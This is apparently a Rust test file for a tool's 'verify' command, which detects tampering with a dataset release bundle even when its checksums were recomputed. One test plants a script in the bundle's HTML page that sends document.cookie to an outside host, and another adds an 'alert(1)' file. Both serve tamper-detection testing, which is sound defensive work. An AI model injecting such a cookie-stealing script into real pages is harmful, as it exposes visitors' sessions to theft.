//! `aabc verify` compares every derived file of a bundle with what the bundle's own data and
//! metadata produce: an edited map, licence or page is found even when `SHA256SUMS` was
//! recomputed to match, and a zip of a version the repository records must be the recorded one.

use crate::common::*;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

/// A release bundle of the shipped dataset, built once: (dist dir, bundle name).
pub fn released() -> &'static (tempfile::TempDir, String) {
    static BUNDLE: OnceLock<(tempfile::TempDir, String)> = OnceLock::new();
    BUNDLE.get_or_init(|| {
        let dist = tempfile::tempdir().unwrap();
        aabc_ok(&["release", "--out", dist.path().to_str().unwrap()]);
        let name = std::fs::read_dir(dist.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .find_map(|n| n.strip_suffix(".zip").map(str::to_string))
            .unwrap();
        (dist, name)
    })
}

/// The released zip.
pub fn released_zip() -> PathBuf {
    let (dist, name) = released();
    dist.path().join(format!("{name}.zip"))
}

/// A writable copy of the released bundle directory.
pub fn bundle_copy() -> (tempfile::TempDir, PathBuf) {
    let (dist, name) = released();
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join(name);
    copy_tree(&dist.path().join(name), &dir);
    (tmp, dir)
}

/// Writes every line of `SHA256SUMS` again with the file's current hash, as someone who edited
/// a file and wants the checksums to pass would.
pub fn resum(dir: &Path) {
    let sums = dir.join("SHA256SUMS");
    let text: String = std::fs::read_to_string(&sums)
        .unwrap()
        .lines()
        .map(|l| {
            let (_, path) = l.split_once("  ").unwrap();
            let bytes = std::fs::read(dir.join(path)).unwrap();
            let hash = aabc::release::checksum::sha256_hex(&bytes);
            format!("{hash}  {path}\n")
        })
        .collect();
    std::fs::write(&sums, text).unwrap();
}

/// Edits one file of the bundle with `edit`, which must change it.
fn edit(dir: &Path, file: &str, edit: impl Fn(&str) -> String) {
    let path = dir.join(file);
    let before = std::fs::read_to_string(&path).unwrap();
    let after = edit(&before);
    assert_ne!(before, after, "the edit of {file} changed nothing");
    std::fs::write(&path, after).unwrap();
}

/// Verifies `dir` and asserts exit 1 with a `verify/derived` finding for each of `files`.
fn assert_derived(dir: &Path, files: &[&str]) {
    let (code, out, err) = run_aabc(&["verify", dir.to_str().unwrap()]);
    assert_eq!(code, 1, "{out}{err}");
    for f in files {
        let line =
            format!("MISMATCH: {f}: differs from what the bundle's own data and metadata produce");
        assert!(out.contains(&line), "{line} not in:\n{out}");
    }
    let (code, json, _) = run_aabc(&["verify", "--format", "json", dir.to_str().unwrap()]);
    assert_eq!(code, 1);
    let found: Vec<serde_json::Value> = json
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    for f in files {
        assert!(
            found
                .iter()
                .any(|p| p["rule"] == "verify/derived" && p["file"] == *f),
            "no verify/derived finding for {f} in:\n{json}"
        );
    }
}

#[test]
fn an_untouched_bundle_and_its_zip_verify() {
    let (_tmp, dir) = bundle_copy();
    for target in [dir, released_zip()] {
        let (code, out, err) = run_aabc(&["verify", target.to_str().unwrap()]);
        assert_eq!(code, 0, "{out}{err}");
        assert!(out.starts_with("verified: "), "{out}");
    }
}

#[test]
fn a_moved_point_and_a_changed_figure_in_the_geojson_are_found() {
    let (_tmp, dir) = bundle_copy();
    edit(&dir, "events.geojson", |t| {
        let at = t.find("\"coordinates\":[").unwrap() + "\"coordinates\":[".len();
        let end = at + t[at..].find(']').unwrap();
        let moved = format!("{}0,0{}", &t[..at], &t[end..]);
        moved.replacen("\"killed_total\":null", "\"killed_total\":999", 1)
    });
    resum(&dir);
    assert_derived(&dir, &["events.geojson"]);
}

#[test]
fn a_licence_changed_in_the_descriptor_citation_and_readme_is_found() {
    let (_tmp, dir) = bundle_copy();
    for file in ["datapackage.json", "CITATION.cff", "README.md"] {
        edit(&dir, file, |t| t.replace("CC-BY-SA-4.0", "CC0-1.0"));
    }
    resum(&dir);
    assert_derived(&dir, &["datapackage.json", "CITATION.cff", "README.md"]);
}

#[test]
fn a_script_added_to_the_page_is_found() {
    let (_tmp, dir) = bundle_copy();
    edit(&dir, "site/index.html", |t| {
        t.replacen(
            "</body>",
            "<script>fetch('https://example.org/'+document.cookie)</script></body>",
            1,
        )
    });
    resum(&dir);
    assert_derived(&dir, &["site/index.html"]);
}

#[test]
fn a_derived_file_added_or_removed_with_its_checksum_is_found() {
    let (_tmp, dir) = bundle_copy();
    std::fs::remove_file(dir.join("map.svg")).unwrap();
    std::fs::write(dir.join("site/extra.js"), "alert(1)\n").unwrap();
    let sums = dir.join("SHA256SUMS");
    let text: String = std::fs::read_to_string(&sums)
        .unwrap()
        .lines()
        .filter(|l| !l.ends_with("  map.svg"))
        .map(|l| format!("{l}\n"))
        .chain(std::iter::once(format!(
            "{}  site/extra.js\n",
            "0".repeat(64)
        )))
        .collect();
    std::fs::write(&sums, text).unwrap();
    resum(&dir);
    let (code, out, err) = run_aabc(&["verify", dir.to_str().unwrap()]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        out.contains("MISMATCH: map.svg: missing: the bundle's data and metadata produce it"),
        "{out}"
    );
    assert!(
        out.contains(
            "MISMATCH: site/extra.js: not a file that the bundle's data and metadata produce"
        ),
        "{out}"
    );
}

/// The released zip written again to `to` at another compression level, each entry's bytes
/// passed through `edit` (with the entry's path inside the bundle).
pub fn rewritten(to: &Path, edit: impl Fn(&str, Vec<u8>) -> Vec<u8>) {
    let mut src = zip::ZipArchive::new(std::fs::File::open(released_zip()).unwrap()).unwrap();
    let mut z = zip::ZipWriter::new(std::fs::File::create(to).unwrap());
    let opts = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated)
        .compression_level(Some(1));
    for i in 0..src.len() {
        let mut e = src.by_index(i).unwrap();
        let mut bytes = Vec::new();
        e.read_to_end(&mut bytes).unwrap();
        let inside = e.name().split_once('/').unwrap().1.to_string();
        z.start_file(e.name(), opts).unwrap();
        z.write_all(&edit(&inside, bytes)).unwrap();
    }
    z.finish().unwrap();
}

#[test]
fn a_zip_of_a_recorded_version_must_have_the_recorded_sha256() {
    let dir = tempfile::tempdir().unwrap();
    let (_, name) = released();
    let zip = dir.path().join(format!("{name}.zip"));
    rewritten(&zip, |_, bytes| bytes);
    // A copy of the repository whose release record has the version (with the SHA-256 of
    // another archive): the archive is not the published one.
    let repo = tempfile::tempdir().unwrap();
    let d = repo.path();
    repo_copy(d);
    let version = name.rsplit('-').next().unwrap();
    let record = d.join("dataset/releases.csv");
    let mut text = std::fs::read_to_string(&record).unwrap();
    if !text.contains(&format!("\n{version},")) {
        let (commit, sha) = ("a".repeat(40), "b".repeat(64));
        text.push_str(&format!("{version},2026-12-06,{commit},{sha},1,\n"));
        std::fs::write(&record, text).unwrap();
    }
    let (code, out, err) = run(d, &["verify", zip.to_str().unwrap()]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        out.contains("but version ") && out.contains("this is not the published archive"),
        "{out}"
    );
    let (_, json, _) = run(d, &["verify", "--format", "json", zip.to_str().unwrap()]);
    let p: serde_json::Value = serde_json::from_str(json.lines().next().unwrap()).unwrap();
    assert_eq!(p["rule"], "verify/published", "{json}");
    assert_eq!(p["file"], zip.to_str().unwrap(), "{json}");
    // Without a repository that records it, the files alone are checked.
    let elsewhere = tempfile::tempdir().unwrap();
    let root = elsewhere.path().to_str().unwrap();
    let (code, out, err) = run_aabc(&["verify", "--root", root, zip.to_str().unwrap()]);
    assert_eq!(code, 0, "{out}{err}");
}

#[test]
fn a_licence_that_is_a_pipe_is_not_read_to_regenerate_the_bundle() {
    let (_tmp, dir) = bundle_copy();
    let license = dir.join("LICENSE.md");
    std::fs::remove_file(&license).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(&license)
        .status()
        .expect("mkfifo is needed for this test");
    assert!(made.success());
    let out = aabc()
        .arg("verify")
        .arg(&dir)
        .timeout(std::time::Duration::from_secs(60))
        .output()
        .expect("verify ends without waiting on the pipe");
    assert_eq!(out.status.code(), Some(1));
    let out = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.contains("MISMATCH: LICENSE.md: listed in SHA256SUMS but missing"),
        "{out}"
    );
    assert!(
        out.contains("LICENSE.md is not a regular file of the bundle"),
        "{out}"
    );
}
